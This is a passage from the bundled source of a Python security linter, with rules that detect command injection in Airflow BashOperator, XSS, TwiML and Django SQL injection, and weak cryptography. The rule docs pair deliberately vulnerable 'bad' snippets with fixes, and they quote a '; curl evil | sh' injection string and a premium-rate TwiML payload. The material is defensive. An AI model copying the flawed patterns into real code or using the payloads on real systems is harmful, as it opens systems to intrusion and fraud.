      fix: 'Pass run-time values through `env={"NAME": "{{ dag_run.conf[\'name\'] }}"}` and quote them in the script (`bash_command=\'echo "$NAME"\'`), or use a PythonOperator with an argument list.',
      triggers: [...new Set(Object.keys(BASH_OPERATORS).map(lastName))],
      callees: [...new Set(Object.keys(BASH_OPERATORS).map(lastName))],
      docs: {
        why: "BashOperator hands `bash_command` to bash after rendering it as a Jinja template. `{{ dag_run.conf[...] }}` and `{{ params... }}` are written by whoever triggers the run (CLI `--conf`, REST API, UI form): rendered into the script, `; curl evil | sh` runs on the worker with its credentials. Python formatting of run-time values into the command is the same hole. The rule reports trigger fields in the template (high severity, medium confidence) and formatted values traced to request data, the command line or a parameter.",
        bad: [
          `from airflow.operators.bash import BashOperator
greet = BashOperator(task_id="greet", bash_command="echo {{ dag_run.conf['name'] }}")
`,
          'from airflow.operators.bash import BashOperator\ndef copy_task(source):\n    return BashOperator(task_id="copy", bash_command=f"cp {source} /data/in")\n'
        ],
        good: [
          `from airflow.operators.bash import BashOperator
greet = BashOperator(task_id="greet", bash_command='echo "$NAME"', env={"NAME": "{{ dag_run.conf['name'] }}"})
`,
          'from airflow.operators.bash import BashOperator\nreport = BashOperator(task_id="report", bash_command="python /opt/jobs/report.py --date {{ ds }}")\n'
        ],
        references: ["https://airflow.apache.org/docs/apache-airflow/stable/howto/operator/bash.html", "https://cwe.mitre.org/data/definitions/78.html"]
      },
      sinkClass: "shell",
      levels: LEVELS7,
      match: { call: bashCommand }
    });
  }
});

// dist/rules/xss/render-template-unescaped.js
function isReturned(call, module2) {
  let node = call;
  while (node.parent && ["parenthesized_expression", "argument_list", "call", "tuple", "expression_list"].includes(node.parent.type))
    node = node.parent;
  const parent = node.parent;
  if (parent?.type === "return_statement")
    return true;
  const target = parent?.type === "assignment" ? parent.childForFieldName("left") : null;
  const fn = enclosingFunction(call);
  if (target?.type !== "identifier" || !fn)
    return false;
  return fn.descendantsOfType("return_statement").some((statement) => statement.descendantsOfType("identifier").some((use) => use.text === target.text && (module2.valuesOf(use) ?? []).some((value) => value.id === node.id)));
}
function renderedValues(node, module2) {
  const name = module2.callName(node) ?? "";
  if (!RENDER_FUNCTIONS.has(name))
    return [];
  const template = argument(node, "template_name_or_list", 0);
  const file = template ? module2.constant(template) : void 0;
  if (typeof file !== "string" || AUTOESCAPED.test(file) || !isReturned(node, module2))
    return [];
  return argumentList(node).slice(1).map((value) => ({ value, describe: (source) => `${source} rendered into ${file}, which Flask does not autoescape (XSS)` }));
}
var RENDER_FUNCTIONS, AUTOESCAPED, render_template_unescaped_default;
var init_render_template_unescaped = __esm({
  "dist/rules/xss/render-template-unescaped.js"() {
    "use strict";
    init_taint_rule();
    init_syntax();
    init_arguments();
    RENDER_FUNCTIONS = /* @__PURE__ */ new Set(["flask.render_template", "flask.templating.render_template", "flask.stream_template", "quart.render_template"]);
    AUTOESCAPED = /\.(html|htm|xml|xhtml|svg)$/i;
    render_template_unescaped_default = taintRule({
      id: "render-template-unescaped",
      aliases: [],
      category: "xss",
      cwe: 79,
      severity: "high",
      confidence: "high",
      cost: "deep",
      message: "request data rendered into a Flask template that is not autoescaped (its name does not end in .html/.htm/.xml/.svg)",
      fix: "Name HTML templates *.html (Flask escapes only .html, .htm, .xml, .xhtml and .svg), or escape the value with markupsafe.escape before rendering.",
      triggers: ["render_template", "stream_template"],
      callees: ["render_template", "stream_template"],
      docs: {
        why: "Flask turns Jinja2 autoescaping on by file name only: `page.html` escapes `{{ name }}`, `page.j2`, `page.jinja`, `page.txt` or a name without an extension do not. A view that renders such a template with request data and returns it as HTML reflects script into the page. The rule reports render_template() calls whose constant template name Flask does not autoescape, whose context carries request data, and whose result the view returns.",
        bad: [
          'from flask import Flask, request, render_template\napp = Flask(__name__)\n@app.route("/hello")\ndef hello():\n    return render_template("hello.j2", name=request.args["name"])\n'
        ],
        good: [
          'from flask import Flask, request, render_template\napp = Flask(__name__)\n@app.route("/hello")\ndef hello():\n    return render_template("hello.html", name=request.args["name"])\n',
          'from flask import Flask, request, render_template\nfrom markupsafe import escape\napp = Flask(__name__)\n@app.route("/hello")\ndef hello():\n    return render_template("hello.j2", name=escape(request.args["name"]))\n'
        ],
        references: ["https://flask.palletsprojects.com/en/stable/templating/#jinja-setup", "https://cwe.mitre.org/data/definitions/79.html"]
      },
      sinkClass: "html",
      levels: REQUEST_ONLY,
      match: { call: renderedValues },
      firstOnly: true
    });
  }
});

// dist/rules/xss/template-context-locals.js
function namespaceCall(node, module2) {
  if (node?.type !== "call")
    return void 0;
  const name = module2.callName(node) ?? "";
  if (!NAMESPACES.has(name) || !module2.isBuiltin(name))
    return void 0;
  if (name === "vars" && argumentList(node).length > 0)
    return void 0;
  return name;
}
function contextNamespace(call, module2) {
  const name = module2.callName(call) ?? "";
  const spec = Object.hasOwn(RENDER_CONTEXT, name) ? RENDER_CONTEXT[name] : void 0;
  const method = call.childForFieldName("function")?.type === "attribute" ? module2.calleeAttribute(call) ?? "" : "";
  if (!spec && !RENDER_METHODS.has(method))
    return void 0;
  const args = argumentList(call);
  const keyword = (word) => args.find((arg) => arg.type === "keyword_argument" && arg.childForFieldName("name")?.text === word)?.childForFieldName("value") ?? void 0;
  const positional = args.filter((arg) => arg.type !== "keyword_argument" && arg.type !== "dictionary_splat" && arg.type !== "list_splat");
  const candidates = [
    // `**locals()` works with every render call that takes keywords.
    ...args.filter((arg) => arg.type === "dictionary_splat").map((arg) => arg.firstNamedChild),
    ...spec ? [spec.position === null ? void 0 : positional[spec.position], keyword(spec.keyword)] : [positional[0], keyword("context")]
  ];
  return candidates.map((candidate) => namespaceCall(candidate, module2)).find(Boolean);
}
var RENDER_CONTEXT, RENDER_METHODS, NAMESPACES, template_context_locals_default;
var init_template_context_locals = __esm({
  "dist/rules/xss/template-context-locals.js"() {
    "use strict";
    init_types();
    init_arguments();
    RENDER_CONTEXT = {
      "django.shortcuts.render": { position: 2, keyword: "context" },
      "django.shortcuts.render_to_response": { position: 1, keyword: "context" },
      "django.template.loader.render_to_string": { position: 1, keyword: "context" },
      "django.template.response.TemplateResponse": { position: 2, keyword: "context" },
      "flask.render_template": { position: null, keyword: null },
      "flask.render_template_string": { position: null, keyword: null },
      "pyramid.renderers.render": { position: 1, keyword: "value" },
      "pyramid.renderers.render_to_response": { position: 1, keyword: "value" }
    };
    RENDER_METHODS = /* @__PURE__ */ new Set(["render", "render_async", "stream", "generate"]);
    NAMESPACES = /* @__PURE__ */ new Set(["locals", "globals", "vars"]);
    template_context_locals_default = defineRule({
      id: "template-context-locals",
      aliases: [],
      category: "xss",
      cwe: 200,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "locals()/globals() passed as a template context: every variable in scope, request data and secrets included, reaches the template",
      fix: 'Pass the template exactly the names it uses: `render(request, "page.html", {"user": user, "items": items})`.',
      triggers: ["locals", "globals", "vars"],
      callees: [...Object.keys(RENDER_CONTEXT).map((name) => name.split(".").pop()), ...RENDER_METHODS],
      docs: {
        why: "A context built from `locals()` or `globals()` hands the template everything in scope: the raw request, tokens, passwords read for a check, settings modules. Any template (or template injection) can print them, a later edit that adds a variable exposes it without anyone noticing, and values escaped for one use sit next to their raw versions. List the context explicitly.",
        bad: [
          'from django.shortcuts import render\ndef profile(request):\n    user = request.user\n    token = request.session["api_token"]\n    return render(request, "profile.html", locals())\n',
          'from flask import render_template\ndef page(name):\n    return render_template("page.html", **locals())\n'
        ],
        good: [
          'from django.shortcuts import render\ndef profile(request):\n    user = request.user\n    return render(request, "profile.html", {"user": user})\n',
          'from flask import render_template\ndef page(name):\n    return render_template("page.html", name=name)\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/200.html", "https://docs.djangoproject.com/en/stable/topics/http/shortcuts/#render"]
      },
      create(context) {
        const { module: module2 } = context;
        return {
          call(node) {
            const namespace = contextNamespace(node, module2);
            if (namespace)
              context.report({ node, message: `${namespace}() passed as a template context: every variable in scope, request data and secrets included, reaches the template` });
          }
        };
      }
    });
  }
});

// dist/rules/xss/twiml-injection.js
function builtText2(node, module2) {
  const shape = module2.fold(node);
  return shape && !shape.constant && shape.dynamic.length > 0 ? shape.text.split(HOLE).join("") : void 0;
}
function isOutermostBuild(node) {
  let self = node;
  while (self.parent?.type === "parenthesized_expression")
    self = self.parent;
  const parent = self.parent;
  if (parent?.type === "binary_operator")
    return false;
  if (parent?.type === "attribute" && parent.parent?.type === "call")
    return false;
  return parent?.type !== "concatenated_string" && parent?.type !== "interpolation";
}
function twimlKeywords(node, module2) {
  const sinks = [];
  for (const arg of node.childForFieldName("arguments")?.namedChildren ?? []) {
    if (arg.type !== "keyword_argument" || arg.childForFieldName("name")?.text !== TWIML_KEYWORD)
      continue;
    const value = arg.childForFieldName("value");
    if (value)
      sinks.push({ value, refine: (trace) => trace.kind !== "request" && builtText2(value, module2) === void 0 ? void 0 : trace });
  }
  return sinks;
}
function builtDocument(node, module2) {
  if (!isOutermostBuild(node))
    return [];
  const text = builtText2(node, module2);
  if (!text || !TWIML.test(text))
    return [];
  let holder = node;
  while (holder.parent?.type === "parenthesized_expression")
    holder = holder.parent;
  if (holder.parent?.type === "keyword_argument" && holder.parent.childForFieldName("name")?.text === TWIML_KEYWORD)
    return [];
  const fn = enclosingFunction(node);
  if (holder.parent?.type === "return_statement" && module2.importsModule("flask") && fn?.type === "function_definition" && isRouteHandler(fn))
    return [];
  return [{ value: node, label: "TwiML document", levels: BUILT_LEVELS2 }];
}
var TWIML, TWIML_KEYWORD, KEYWORD_LEVELS, BUILT_LEVELS2, twiml_injection_default;
var init_twiml_injection = __esm({
  "dist/rules/xss/twiml-injection.js"() {
    "use strict";
    init_taint_rule();
    init_syntax();
    init_literals();
    init_taint();
    TWIML = /<Response\b/;
    TWIML_KEYWORD = "twiml";
    KEYWORD_LEVELS = levelTable({
      request: { severity: "high", confidence: "high" },
      "user-input": { severity: "high", confidence: "medium" },
      "stored-input": { severity: "high", confidence: "medium" },
      parameter: { severity: "medium", confidence: "medium" }
    });
    BUILT_LEVELS2 = REQUEST_ONLY;
    twiml_injection_default = taintRule({
      id: "twiml-injection",
      aliases: [],
      category: "xss",
      cwe: 91,
      severity: "high",
      confidence: "high",
      cost: "deep",
      message: "TwiML built by string formatting from run-time data: markup in it adds verbs Twilio executes (`<Dial>`, `<Redirect>`)",
      fix: "Build TwiML with twilio.twiml (VoiceResponse().say(text), MessagingResponse().message(text)), which escapes text, or escape values with xml.sax.saxutils.escape.",
      triggers: [TWIML_KEYWORD, "<Response"],
      // `.format()` builds a TwiML document; `twiml=` rides on any REST call.
      callees: ["format"],
      calleeKeywords: /^twiml$/,
      docs: {
        why: "Twilio runs the TwiML it receives: text pasted into `<Say>` with `</Say><Dial>+1900\u2026</Dial><Say>` in it places a premium-rate call, `<Redirect>` hands the call to another server. The twilio.twiml builders escape text; formatted strings do not. Reported: `twiml=` arguments of the REST client built from request data (high) or a parameter (medium), and TwiML documents (`<Response>\u2026`) formatted from request data.",
        bad: [
          'from flask import request\nfrom twilio.rest import Client\nclient = Client()\ndef call_back():\n    msg = request.form["message"]\n    client.calls.create(to="+15550100", from_="+15550199", twiml=f"<Response><Say>{msg}</Say></Response>")\n'
        ],
        good: [
          'from flask import request\nfrom twilio.rest import Client\nfrom twilio.twiml.voice_response import VoiceResponse\nclient = Client()\ndef call_back():\n    answer = VoiceResponse()\n    answer.say(request.form["message"])\n    client.calls.create(to="+15550100", from_="+15550199", twiml=str(answer))\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/91.html", "https://www.twilio.com/docs/voice/twiml", "https://www.twilio.com/docs/libraries/reference/twilio-python/index.html"]
      },
      sinkClass: "html",
      levels: KEYWORD_LEVELS,
      describe: (source) => `TwiML built from ${source} (TwiML injection)`,
      match: {
        call: (node, module2) => [...twimlKeywords(node, module2), ...module2.calleeAttribute(node) === "format" ? builtDocument(node, module2) : []],
        string: (node, module2) => node.namedChildren.some((child) => child.type === "interpolation") ? builtDocument(node, module2) : [],
        binary_operator: (node, module2) => {
          const operator = node.childForFieldName("operator")?.type;
          return operator === "+" || operator === "%" ? builtDocument(node, module2) : [];
        }
      }
    });
  }
});

// dist/rules/sql-injection/django-expression-template.js
function isFormatted(value, module2) {
  const shape = module2.fold(value);
  return !!shape && !shape.constant && shape.text.includes(HOLE);
}
function expressionTexts(node, module2) {
  const sinks = [];
  for (const arg of node.childForFieldName("arguments")?.namedChildren ?? []) {
    const keyword = arg.type === "keyword_argument" ? arg.childForFieldName("name")?.text ?? "" : "";
    const value = arg.childForFieldName("value");
    if (!SQL_TEXT_KEYWORDS.test(keyword) || !value)
      continue;
    sinks.push({
      value,
      describe: (source) => `SQL ${keyword} of a Django expression built from ${source} (SQL injection)`,
      refine: (trace) => trace.kind !== "parameter" || isFormatted(value, module2) ? trace : void 0
    });
  }
  return sinks;
}
var SQL_TEXT_KEYWORDS, DJANGO_MODELS, LEVELS8, django_expression_template_default;
var init_django_expression_template = __esm({
  "dist/rules/sql-injection/django-expression-template.js"() {
    "use strict";
    init_taint_rule();
    init_literals();
    SQL_TEXT_KEYWORDS = /^(template|function|arg_joiner)$/;
    DJANGO_MODELS = "django.db.models";
    LEVELS8 = levelTable({
      request: { severity: "high", confidence: "high" },
      "user-input": { severity: "high", confidence: "medium" },
      "stored-input": { severity: "high", confidence: "medium" },
      parameter: { severity: "medium", confidence: "medium" }
    });
    django_expression_template_default = taintRule({
      id: "django-expression-template",
      aliases: [],
      category: "sql-injection",
      cwe: 89,
      severity: "high",
      confidence: "high",
      cost: "deep",
      message: "Django expression template or SQL function name built at run time: it is pasted into the query as SQL",
      fix: 'Keep `template`, `function` and `arg_joiner` constant; pass values as expressions (`Value(x)`, `F("field")`) so Django binds them as parameters.',
      triggers: [/\b(template|function|arg_joiner)\s*=/],
      calleeKeywords: SQL_TEXT_KEYWORDS,
      docs: {
        why: 'Func, Aggregate, Transform and custom expressions render `template` with `%(function)s` and `%(expressions)s` and put the result into the SQL unescaped; `function` and `arg_joiner` go in the same way. A value formatted into them (`template=f"... {order}"`, `function=request.GET["fn"]`) is SQL injection that no `params` list guards. Values belong in `Value()`/`F()` arguments, which Django binds.',
        bad: [
          `from django.db.models import F, Func
def ordered(request, qs):
    direction = request.GET.get("dir", "ASC")
    return qs.annotate(names=Func(F("name"), function="STRING_AGG", template=f"%(function)s(%(expressions)s, ',' ORDER BY name {direction})"))
`,
          'from django.db.models import F, Func\ndef apply(request, qs):\n    return qs.annotate(v=Func(F("price"), function=request.GET["fn"]))\n'
        ],
        good: [
          `from django.db.models import F, Func
def ordered(request, qs):
    return qs.annotate(names=Func(F("name"), function="STRING_AGG", template="%(function)s(%(expressions)s, ',' ORDER BY name)"))
`,
          'from django.db.models import F, Func\nFUNCTIONS = {"upper": "UPPER", "lower": "LOWER"}\ndef apply(request, qs):\n    return qs.annotate(v=Func(F("name"), function=FUNCTIONS[request.GET["fn"]]))\n'
        ],
        references: ["https://docs.djangoproject.com/en/stable/ref/models/expressions/#func-expressions", "https://cwe.mitre.org/data/definitions/89.html"]
      },
      sinkClass: "sql",
      levels: LEVELS8,
      inModule: (module2) => module2.importsLike(DJANGO_MODELS) || module2.importsLike("django.db"),
      match: { call: expressionTexts },
      firstOnly: true
    });
  }
});

// dist/rules/support/call-table.js
function callTableRule(row) {
  const names = new Set(row.calls);
  const { calls: _calls, when, ...meta } = row;
  return {
    triggers: row.calls.map(nameTrigger),
    callees: row.calls.map(lastName),
    ...meta,
    cost: "fast",
    create: (context) => ({
      call(node) {
        const name = context.module.callName(node);
        if (name === void 0 || !names.has(name))
          return;
        const verdict = when ? when(node, context.module) : true;
        if (verdict === false)
          return;
        context.report(verdict === true ? { node } : { node, ...verdict });
      }
    })
  };
}
function importTableRule(row) {
  const { modules, except = [], notWhenSourceShows, ...meta } = row;
  const under = (name, module2) => name === module2 || name.startsWith(`${module2}.`);
  const matches = (name) => modules.some((module2) => under(name, module2)) && !except.some((module2) => under(name, module2));
  return {
    triggers: modules.map(nameTrigger),
    callees: [...[...DYNAMIC_IMPORTS].map(lastName), ...modules.map(lastName)],
    ...meta,
    cost: "fast",
    create: (context) => {
      if (notWhenSourceShows && context.module.sourceMatches(notWhenSourceShows))
        return {};
      const reportImport = (statement) => {
        const entry = context.module.imports.statements.find((candidate) => candidate.node.id === statement.id);
        for (const imported of entry?.names ?? []) {
          if (matches(imported.qualified))
            context.report({ node: imported.node, message: `${meta.message}: ${imported.qualified}` });
        }
      };
      return {
        import_statement: reportImport,
        import_from_statement: reportImport,
        call(node) {
          const name = context.module.callName(node);
          if (name === void 0)
            return;
          if (DYNAMIC_IMPORTS.has(name)) {
            const first = argument(node, "name", 0);
            const target = first ? context.module.constant(first) : void 0;
            if (typeof target === "string" && matches(target))
              context.report({ node, message: `${meta.message}: ${target}` });
          } else if (modules.includes(name)) {
            context.report({ node });
          }
        }
      };
    }
  };
}
var DYNAMIC_IMPORTS;
var init_call_table = __esm({
  "dist/rules/support/call-table.js"() {
    "use strict";
    init_name_triggers();
    init_arguments();
    DYNAMIC_IMPORTS = /* @__PURE__ */ new Set(["__import__", "importlib.import_module", "importlib.__import__"]);
  }
});

// dist/rules/tables/dangerous-calls.js
function firstArgumentIsConstant(call, module2) {
  const first = argument(call, null, 0);
  return !!first && module2.isConstant(first);
}
var members2, ESCAPED_MARKUP, PYCRYPTO, CRYPTOGRAPHY_ALGORITHMS, PYCRYPTO_BLOCK_CIPHERS, ROWS, DANGEROUS_CALL_RULES;
var init_dangerous_calls = __esm({
  "dist/rules/tables/dangerous-calls.js"() {
    "use strict";
    init_arguments();
    init_call_table();
    init_html_escaping();
    members2 = (modules, names) => modules.flatMap((module2) => names.map((name) => `${module2}.${name}`));
    ESCAPED_MARKUP = new Set(ESCAPING_FUNCTIONS);
    PYCRYPTO = ["Crypto", "Cryptodome"];
    CRYPTOGRAPHY_ALGORITHMS = ["cryptography.hazmat.primitives.ciphers.algorithms", "cryptography.hazmat.decrepit.ciphers.algorithms"];
    PYCRYPTO_BLOCK_CIPHERS = members2(PYCRYPTO.map((root) => `${root}.Cipher`), ["AES", "DES", "DES3", "Blowfish", "CAST", "ARC2"]).map((module2) => `${module2}.new`);
    ROWS = [
      {
        id: "insecure-hash",
        aliases: ["B303", "S303", "md5"],
        category: "weak-crypto",
        cwe: 327,
        severity: "medium",
        confidence: "high",
        // hashlib.md5/sha1 are B324's (insecure-hashlib), as in Bandit ≥ 1.7.
        calls: [
          ...members2(PYCRYPTO.map((root) => `${root}.Hash`), ["MD2", "MD4", "MD5", "SHA"]).map((module2) => `${module2}.new`),
          "cryptography.hazmat.primitives.hashes.MD5",
          "cryptography.hazmat.primitives.hashes.SHA1"
        ],
        message: "MD2, MD4, MD5 and SHA-1 are broken hash functions",
        fix: "Use SHA-256 or better (Crypto.Hash.SHA256, hashes.SHA256()); for passwords use a password hash (argon2, scrypt, bcrypt, PBKDF2).",
        docs: {
          why: "Collisions for MD5 and SHA-1 can be computed cheaply, so signatures, integrity checks and fingerprints built on them can be forged.",
          bad: ["from Crypto.Hash import MD5\ndigest = MD5.new(data).hexdigest()\n", "from cryptography.hazmat.primitives import hashes\nalgorithm = hashes.SHA1()\n"],
          good: ["from Crypto.Hash import SHA256\ndigest = SHA256.new(data).hexdigest()\n"],
          references: ["https://cwe.mitre.org/data/definitions/327.html", "https://shattered.io/"]
        }
      },
      {
        id: "insecure-cipher",
        aliases: ["B304", "S304", "ciphers"],
        category: "weak-crypto",
        cwe: 327,
        severity: "high",
        confidence: "high",
        // Bandit's list, plus DES3/CAST (PyCrypto/PyCryptodome) and cryptography's `decrepit` home of the legacy ciphers.
        calls: [
          ...members2(PYCRYPTO.map((root) => `${root}.Cipher`), ["ARC2", "ARC4", "Blowfish", "DES", "DES3", "CAST", "XOR"]).map((module2) => `${module2}.new`),
          ...members2(CRYPTOGRAPHY_ALGORITHMS, ["ARC4", "Blowfish", "CAST5", "IDEA", "SEED", "TripleDES", "RC2"])
        ],
        message: "insecure cipher (RC2, RC4, Blowfish, DES, 3DES, CAST, IDEA, SEED or XOR)",
        fix: "Use AES-GCM or ChaCha20-Poly1305 (cryptography's AESGCM / ChaCha20Poly1305, or Crypto.Cipher.AES with MODE_GCM).",
        docs: {
          why: "These ciphers have small blocks (64-bit: Sweet32), small keys (DES) or biased keystreams (RC4); traffic encrypted with them can be decrypted or forged.",
          bad: ["from Crypto.Cipher import DES\ncipher = DES.new(key, DES.MODE_CBC, iv)\n", "from cryptography.hazmat.primitives.ciphers import algorithms\nalgorithm = algorithms.TripleDES(key)\n"],
          good: ["from cryptography.hazmat.primitives.ciphers.aead import AESGCM\nsealed = AESGCM(key).encrypt(nonce, data, None)\n"],
          references: ["https://cwe.mitre.org/data/definitions/327.html", "https://sweet32.info/"]
        }
      },
      {
        // High, unlike Bandit's medium: ECB leaks the plaintext's structure whatever the key, so it blocks.
        id: "insecure-cipher-mode",
        aliases: ["B305", "S305", "cipher_modes"],
        category: "weak-crypto",
        cwe: 327,
        severity: "high",
        confidence: "high",
        calls: ["cryptography.hazmat.primitives.ciphers.modes.ECB", ...PYCRYPTO_BLOCK_CIPHERS],
        message: "ECB mode encrypts equal blocks to equal ciphertext and leaks the structure of the data",
        fix: "Use an authenticated mode: GCM (modes.GCM, AES.MODE_GCM) or AESGCM / ChaCha20Poly1305.",
        docs: {
          why: 'In ECB each block is encrypted on its own, so repeated plaintext blocks show through (the "ECB penguin") and blocks can be cut and pasted between messages.',
          bad: ["from cryptography.hazmat.primitives.ciphers import modes\nmode = modes.ECB()\n", "from Crypto.Cipher import AES\ncipher = AES.new(key, AES.MODE_ECB)\n"],
          good: ["from Crypto.Cipher import AES\ncipher = AES.new(key, AES.MODE_GCM)\n"],
          references: ["https://cwe.mitre.org/data/definitions/327.html"]
        },
        // PyCrypto's `X.new(key, mode)`: only the ECB mode is flagged (PyCryptodome has no default mode; PyCrypto's
        // default ECB is not assumed, as the two share the `Crypto` package name).
        when: (call, module2) => {
          const name = module2.callName(call) ?? "";
          if (!name.endsWith(".new"))
            return true;
          const mode = argument(call, "mode", 1);
          if (!mode)
            return false;
          const modeName = module2.qualifiedName(mode) ?? "";
          return modeName === "MODE_ECB" || modeName.endsWith(".MODE_ECB") || module2.constant(mode) === 1;
        }
      },
      {
        // High, unlike Bandit's medium: the name-then-create race is exploitable by any local user, so it blocks.
        id: "mktemp",
        aliases: ["B306", "S306", "mktemp_q"],
        category: "other",
        cwe: 377,
        severity: "high",
        confidence: "high",
        calls: ["tempfile.mktemp"],
        message: "tempfile.mktemp() returns a name that another process can create first (race condition)",
        fix: "Use tempfile.mkstemp(), NamedTemporaryFile() or TemporaryDirectory(), which create the file atomically.",
        docs: {
          why: "Between mktemp() choosing a name and the program creating the file, an attacker can create that path (often a symlink to a file of theirs or of the victim), so the program writes where the attacker wants.",
          bad: ["import tempfile\npath = tempfile.mktemp()\n"],
          good: ["import tempfile\nhandle, path = tempfile.mkstemp()\n"],
          references: ["https://docs.python.org/3/library/tempfile.html#tempfile.mktemp", "https://cwe.mitre.org/data/definitions/377.html"]
        }
      },
      {
        id: "mark-safe-used",
        aliases: ["B308", "S308", "mark_safe"],
        category: "xss",
        cwe: 79,
        severity: "medium",
        confidence: "high",
        calls: ["django.utils.safestring.mark_safe", "django.utils.html.mark_safe"],
        message: "mark_safe() turns off HTML escaping: any user data inside is rendered as markup (XSS)",
        fix: "Build HTML with django.utils.html.format_html(), which escapes every argument; keep mark_safe() for constant markup.",
        docs: {
          why: "Django escapes everything a template prints unless it is marked safe. Marking a string that contains request data as safe lets that data inject script into the page.",
          bad: ['from django.utils.safestring import mark_safe\ndef greet(name):\n    return mark_safe("<b>%s</b>" % name)\n'],
          good: [
            'from django.utils.html import format_html\ndef greet(name):\n    return format_html("<b>{}</b>", name)\n',
            'from django.utils.safestring import mark_safe\nICON = mark_safe("<i class=\\"icon\\"></i>")  # constant markup: low severity only\n'
          ],
          references: ["https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.safestring.mark_safe", "https://cwe.mitre.org/data/definitions/79.html"]
        },
        // Bandit flags every call; like Ruff (S308) we keep constant markup out of the blocking levels.
        // Markup whose every run-time part was escaped (where it is built, or earlier as the trace shows) is an audit's.
        when: (call, module2) => {
          if (firstArgumentIsConstant(call, module2))
            return { severity: "low", message: "mark_safe() of constant markup: safe as written" };
          const first = argument(call, null, 0);
          return first && isSafeHtml(first, module2, ESCAPED_MARKUP) ? { severity: "low", confidence: "low", auditOnly: true, message: "mark_safe() of escaped markup (shown by --profile audit)" } : true;
        }
      },
      {
        id: "urllib-urlopen",
        aliases: ["B310", "S310", "urllib_urlopen"],
        category: "ssrf",
        cwe: 22,
        severity: "medium",
        confidence: "high",
        calls: [
          ...members2(["urllib.request", "six.moves.urllib.request", "urllib"], ["urlopen", "urlretrieve", "URLopener", "FancyURLopener"]),
          "urllib2.urlopen",
          "urllib2.Request"
        ],
        message: "urlopen() also opens file:// and custom schemes: audit which URLs can reach it",
        fix: "Check the scheme (and host) of the URL before opening it, or use an HTTP client (requests, httpx) that only speaks http(s).",
        docs: {
          why: "urllib's openers follow file://, ftp:// and data: URLs as well as http(s). A URL that comes from a user can read local files or reach internal services.",
          bad: ["import urllib.request\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n"],
          good: ['import urllib.request\nPAGE = urllib.request.urlopen("https://example.org/status").read()  # constant https URL: --profile audit only\n'],
          references: ["https://docs.python.org/3/library/urllib.request.html", "https://cwe.mitre.org/data/definitions/22.html"]
        },
        // Precision choice (as Ruff's S310): a constant http(s) URL — literal, or a Request() built from one — cannot be
        // turned into file://; `--profile audit` still lists it so Bandit users see every call.
        when: (call, module2) => {
          const written = argument(call, "url", 0) ?? argument(call, "fullurl", null);
          if (!written)
            return true;
          const bound = written.type === "identifier" ? module2.valuesOf(written) : void 0;
          const target = bound?.length === 1 ? bound[0] : written;
          const url = target.type === "call" && /(^|\.)Request$/.test(module2.callName(target) ?? "") ? argument(target, "url", 0) : target;
          const value = url ? module2.constant(url) : void 0;
          return typeof value === "string" && /^https?:\/\//i.test(value) ? { severity: "low", confidence: "low", auditOnly: true, message: "urlopen() of a constant http(s) URL (shown by --profile audit)" } : true;
        }
      },
      {
        id: "telnet-call",
        aliases: ["B312", "S312", "telnetlib"],
        category: "insecure-transport",
        cwe: 319,
        severity: "high",
        confidence: "high",
        calls: ["telnetlib.Telnet"],
        message: "Telnet sends everything, passwords included, in clear text",
        fix: "Use SSH (paramiko, asyncssh) instead of Telnet.",
        docs: {
          why: "Telnet has no encryption or server authentication: anyone on the network path reads the session and can alter it.",
          bad: ['import telnetlib\nsession = telnetlib.Telnet("switch.example", 23)\n'],
          good: ["import paramiko\nclient = paramiko.SSHClient()\n"],
          references: ["https://cwe.mitre.org/data/definitions/319.html"]
        }
      },
      {
        id: "ftp-call",
        aliases: ["B321", "S321", "ftplib"],
        category: "insecure-transport",
        cwe: 319,
        severity: "high",
        confidence: "high",
        // Only plain FTP (as Bandit ≥ 1.7): ftplib.FTP_TLS encrypts the session.
        calls: ["ftplib.FTP"],
        message: "FTP sends credentials and data in clear text",
        fix: "Use SFTP (paramiko) or ftplib.FTP_TLS with prot_p().",
        docs: {
          why: "Plain FTP has no encryption: the login and every file cross the network readable and modifiable by anyone on the path.",
          bad: ['import ftplib\nsession = ftplib.FTP("ftp.example", "user", password)\n'],
          good: ['import ftplib\nsession = ftplib.FTP_TLS("ftp.example")\nsession.prot_p()\n'],
          references: ["https://cwe.mitre.org/data/definitions/319.html"]
        }
      }
    ];
    DANGEROUS_CALL_RULES = ROWS.map(callTableRule);
  }
});

// dist/rules/tables/dangerous-imports.js
function xmlImportRow(id, bandit, ruff, name, modules, bad, good, except = []) {
  return {
    id,
    aliases: [bandit, ruff, name],
    category: "xxe",
    cwe: 20,
    severity: "low",
    confidence: "high",
    recommended: false,
    modules,
    except,
    message: "stdlib XML module imported: parsing untrusted XML with it is vulnerable to XML attacks",
    fix: XML_FIX,
    docs: { why: XML_WHY, bad: [bad], good: [good], references: XML_REFERENCES }
  };
}
var XML_FIX, XML_WHY, XML_REFERENCES, ROWS2, DANGEROUS_IMPORT_RULES;
var init_dangerous_imports = __esm({
  "dist/rules/tables/dangerous-imports.js"() {
    "use strict";
    init_call_table();
    XML_FIX = "Use defusedxml for parsing untrusted XML (defusedxml.ElementTree, defusedxml.minidom, \u2026) or call defusedxml.defuse_stdlib().";
    XML_WHY = "The standard library XML parsers expand entities and are vulnerable to entity-expansion attacks (billion laughs) on untrusted input. The import is a reminder; the parse calls are reported by their own rules.";
    XML_REFERENCES = ["https://docs.python.org/3/library/xml.html#xml-vulnerabilities", "https://pypi.org/project/defusedxml/"];
    ROWS2 = [
      {
        id: "import-telnetlib",
        aliases: ["B401", "S401", "import_telnetlib"],
        category: "insecure-transport",
        cwe: 319,
        severity: "high",
        confidence: "high",
        modules: ["telnetlib"],
        message: "telnetlib sends everything, passwords included, in clear text",
        fix: "Use SSH (paramiko, asyncssh) instead of Telnet.",
        docs: {
          why: "Telnet has no encryption; anyone on the path reads and can alter the session.",
          bad: ["import telnetlib\n"],
          good: ["import paramiko\n"],
          references: ["https://cwe.mitre.org/data/definitions/319.html"]
        }
      },
      {
        id: "import-ftplib",
        aliases: ["B402", "S402", "import_ftplib"],
        category: "insecure-transport",
        cwe: 319,
        severity: "high",
        confidence: "high",
        modules: ["ftplib"],
        // A file that uses the encrypted FTP_TLS imports ftplib for it; a plain FTP() there is still ftp-call's finding.
        notWhenSourceShows: /\bFTP_TLS\b/,
        message: "ftplib imported: plain FTP sends credentials and files in clear text",
        fix: "Use SFTP (paramiko) or ftplib.FTP_TLS with prot_p().",
        docs: {
